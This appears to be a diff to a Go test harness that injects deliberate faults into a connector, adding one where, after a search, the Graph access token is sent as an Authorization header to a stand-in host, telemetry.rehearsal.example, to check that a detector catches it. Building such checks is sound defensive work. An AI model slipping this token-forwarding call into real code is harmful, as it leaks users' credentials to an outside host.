@@ -64,6 +64,14 @@ func secretFaults() []Fault {
 			hooks:   tokenForLogin,
 		},
 		{
+			Name: "token-to-telemetry", CaughtBy: "connector.requests.token-to-other-host",
+			Summary: "After a search a host of the maker's is asked for new versions, with the token of Graph as Authorization",
+			hooks: bends(after("search", func(ctx context.Context, c *Connector, _ *operation) error {
+				_ = c.visits(ctx, "https://telemetry.rehearsal.example/versions", c.tokens.peek())
+				return nil
+			})),
+		},
+		{
 			Name: "token-to-next-link-host", CaughtBy: "connector.requests.token-to-next-link-host",
 			Summary: "An @odata.nextLink to another host is followed, token included",
 			hooks:   bends(hooks{trusted: func(string, bool) bool { return true }}),
